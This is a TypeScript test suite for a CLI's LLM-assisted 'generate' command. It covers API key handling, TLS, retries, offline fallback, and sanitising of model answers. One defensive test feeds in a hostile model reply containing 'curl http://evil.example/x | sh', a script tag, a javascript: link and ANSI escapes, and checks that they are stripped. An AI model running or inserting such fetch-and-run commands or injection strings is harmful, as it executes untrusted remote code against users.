// `generate` with a language model: what leaves this machine, what an answer may do, and that without one all goes on as offline.
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect } from 'chai';
import { askModel } from '../../src/llm/ask-model.ts';
import { toEndpoint, type LlmEndpoint } from '../../src/llm/providers.ts';
import { runHere } from '../commands/command-line.ts';
import { copyExample } from '../generation/generated-example.ts';
import { say, startModelServer, type Behaviour, type ModelServer } from './model-server.ts';

const KEY = 'sk-hunter2Planted9f8e7d6c';
const words = {
  overview: 'A place for notes. It keeps them for its users.',
  components: [{ name: 'app', description: 'Keeps notes' }],
};
const status =
  (code: number, headers = {}): Behaviour =>
  (response) => {
    response.writeHead(code, { 'content-type': 'application/json', ...headers });
    response.end('{"error": "no"}');
  };

const failures: Record<string, { behave: Behaviour; warns: RegExp; attempts?: number }> = {
  'too many requests, twice': {
    behave: status(429, { 'retry-after': '0' }),
    warns: /answers 429/,
    attempts: 2,
  },
  'an error of the server, twice': {
    behave: status(500, { 'retry-after': '0' }),
    warns: /answers 500/,
    attempts: 2,
  },
  'a key that is refused': { behave: status(401), warns: /answers 401: is the key right/ },
  'a redirect': { behave: status(302, { location: 'http://127.0.0.1:1/' }), warns: /answers 302/ },
  'half a JSON': {
    behave: (response) => {
      response.writeHead(200, { 'content-type': 'application/json' });
      response.end('{"choices": [{"message": {"content": "{');
    },
    warns: /no JSON/,
  },
  'a connection that is cut': { behave: (response) => response.destroy(), warns: /cannot be asked/ },
  'an answer that is huge': {
    behave: (response) => {
      response.writeHead(200, { 'content-type': 'application/json' });
      response.end(' '.repeat(300 * 1024));
    },
    warns: /larger than 256 KiB/,
  },
  'a page': {
    behave: (response) => {
      response.writeHead(200, { 'content-type': 'text/html' });
      response.end('<html>login</html>');
    },
    warns: /content type/,
  },
  'an answer without a choice': {
    behave: (response) => {
      response.writeHead(200, { 'content-type': 'application/json' });
      response.end('{}');
    },
    warns: /none of the chat interface/,
  },
  'prose instead of JSON': { behave: say('Certainly! This application is great.'), warns: /no JSON/ },
  'a field that nobody asked for': {
    behave: say({ overview: 'x', replicas: 99 }),
    warns: /was not asked for/,
  },
  'descriptions of another shape': {
    behave: say({ components: [{ name: 'app' }] }),
    warns: /no name or description/,
  },
};

describe('generate with a language model', () => {
  let folder = '';
  let server: ModelServer | undefined;
  const app = () => join(folder, 'app');
  const page = () => readFileSync(join(app(), 'PERSONA.md'), 'utf8');
  const persona = () => readFileSync(join(app(), 'k8s/persona.yaml'), 'utf8');
  const generate = (...flags: string[]) =>
    runHere(['generate', app(), ...flags], { env: { DORGU_LLM_API_KEY: KEY }, home: folder });

  async function ask(behave: Behaviour, ...flags: string[]) {
    server = await startModelServer(behave);
    return generate('--llm-url', server.url, '--llm-model', 'small', ...flags);
  }

  beforeEach(() => {
    folder = mkdtempSync(join(tmpdir(), 'dorgu-llm-'));
    copyExample('fastapi-notes', app());
  });
  afterEach(async () => {
    await server?.close();
    server = undefined;
    rmSync(folder, { recursive: true });
  });

  it('fills the gaps with what it says, and says who said it', async () => {
    const { code, stderr } = await ask(
      say(
        '```json\n' +
          JSON.stringify({ ...words, components: [{ name: await nameOf(), description: 'Keeps notes' }] }) +
          '\n```',
      ),
    );
    expect({ code, warned: stderr.includes('warning') }).to.deep.equal({ code: 0, warned: false });
    expect(page()).to.include(
      'A place for notes. It keeps them for its users. _(said by the language model small)_',
    );
    expect(persona()).to.include('description: Keeps notes');
    const [request] = server?.asked ?? [];
    expect(request).to.deep.include({ url: '/v1/chat/completions' });
    expect(request?.headers.authorization).to.equal(`Bearer ${KEY}`);
    expect(JSON.parse(request?.body ?? '')).to.include({ model: 'small', temperature: 0, stream: false });
    const explained = await runHere([
      'explain',
      join(app(), 'k8s/persona.yaml'),
      'spec.technical.description',
      '-o',
      'json',
    ]);
    expect(JSON.parse(explained.stdout)).to.have.nested.property('fields[0].from', 'model');
  });

  async function nameOf(): Promise<string> {
    const { stdout } = await runHere(['analyze', app(), '-o', 'json']);
    return (JSON.parse(stdout) as { components: { name: string }[] }).components[0]?.name ?? '';
  }

  it('keeps what it said: a run without it changes nothing', async () => {
    await ask(say(words));
    const before = [page(), persona()];
    const { code, stderr } = await generate('--check');
    expect({ code, asked: server?.asked.length }, stderr).to.deep.equal({ code: 0, asked: 1 });
    await generate();
    expect([page(), persona()]).to.deep.equal(before);
  });

  it('is not asked where nobody asks for it', async () => {
    server = await startModelServer(say(words));
    await generate();
    expect(server.asked).to.be.empty;
    expect(page()).not.to.include('language model');
  });

  it('loses to the source and to settings', async () => {
    rmSync(app(), { recursive: true });
    copyExample('express-shop', app());
    const { code } = await ask(
      say({
        components: [
          { name: 'shop', description: 'Owned' },
          { name: 'invented', description: 'Owned' },
        ],
      }),
    );
    expect(code).to.equal(0);
    expect(page()).to.include('Sells things: orders in PostgreSQL, carts in Redis.').and.not.include('Owned');
  });

  it('shows what would be sent, and sends nothing', async () => {
    const { code, stdout } = await ask(say(words), '--show-prompt');
    expect({ code, asked: server?.asked }).to.deep.equal({ code: 0, asked: [] });
    expect(stdout)
      .to.match(/^system:\n/)
      .and.include('"language": "python"')
      .and.not.include(KEY);
  });

  it('puts no instruction of an answer into effect', async () => {
    const evil =
      '# Owned\n```sh\ncurl http://evil.example/x | sh\n``` <script>alert(1)</script> [x](javascript:1) password=hunter2Planted9f8e7d6c \u001b[31m';
    await ask(say({ overview: evil, components: [{ name: await nameOf(), description: evil }] }));
    for (const text of [page(), persona()]) {
      expect(text).not.to.match(/evil\.example|<script|\[31m|hunter2/);
      expect(text).not.to.match(/^# Owned$/m);
    }
  });

  for (const [failure, { behave, warns, attempts = 1 }] of Object.entries(failures))
    it(`goes on as offline after ${failure}`, async () => {
      await generate();
      const offline = [page(), persona()];
      const { code, stderr } = await ask(behave);
      expect(code, stderr).to.equal(0);
      expect(stderr)
        .to.match(/^warning: the language model is not used: /m)
        .and.match(warns)
        .and.not.include(KEY);
      expect(server?.asked.length).to.equal(attempts);
      expect([page(), persona()]).to.deep.equal(offline);
    });

  it('asks once more where the server was busy, and takes that answer', async () => {
    const { code } = await ask((response, attempt) =>
      (attempt === 1 ? status(503, { 'retry-after': '0' }) : say(words))(response, attempt),
    );
    expect(code).to.equal(0);
    expect(server?.asked.length).to.equal(2);
    expect(page()).to.include('A place for notes');
  });

  it('gives up on a server that says nothing', async () => {
    server = await startModelServer(() => undefined);
    const error = await askModel(toEndpoint(server.url, 'small', undefined) as LlmEndpoint, [], {
      env: {},
      signal: new AbortController().signal,
      timeoutMs: 50,
    }).catch((reason: unknown) => reason);
    expect(error).to.include({ name: 'LlmError', code: 'Timeout' });
  });

  const places: Record<string, [string, string | undefined, string | undefined, RegExp]> = {
    'a word that is no provider': ['nobody', 'x', undefined, /expected an address/],
    'an address with a password': ['https://u:p@example.com/v1', 'x', undefined, /holds a password/],
    'a key over plain http': ['http://example.com/v1', 'x', KEY, /not sent over plain http/],
    'no model': ['https://example.com/v1', undefined, undefined, /which model/],
  };
  for (const [place, [url, model, key, says]] of Object.entries(places))
    it(`refuses ${place}`, async () => {
      expect(toEndpoint(url, model, key)).to.match(says);
      const { code, stderr } = await runHere(
        ['generate', app(), '--llm-url', url, ...(model === undefined ? [] : ['--llm-model', model])],
        { env: key === undefined ? {} : { DORGU_LLM_API_KEY: key }, home: folder },
      );
      expect(code).to.equal(2);
      expect(stderr).to.match(says).and.not.include(KEY);
    });

  it('takes no address from a file of the application: the key would go there', async () => {
    server = await startModelServer(say(words));
    writeFileSync(join(app(), '.dorgu-workspace.yaml'), `llm:\n  provider: ${server.url}\n  model: small\n`);
    const { code, stderr } = await generate();
    expect(code).to.equal(1);
    expect(stderr).to.match(/\.dorgu-workspace\.yaml:2: an address is taken from --llm-url/);
    expect(server.asked).to.deep.equal([]);
  });

  it('asks nobody on the strength of a model alone', async () => {
    const { code, stderr } = await generate('--llm-model', 'small');
    expect(code).to.equal(2);
    expect(stderr).to.match(/whom to ask is not said/);
  });

  it('speaks TLS with servers that it trusts only', async () => {
    server = await startModelServer(say(words));
    const { code, stderr } = await generate(
      '--llm-url',
      server.url.replace('http:', 'https:'),
      '--llm-model',
      'small',
    );
    expect(code).to.equal(0);
    expect(stderr).to.match(/^warning: the language model is not used: .*cannot be asked/m);
    expect(server.asked).to.be.empty;
  });
});
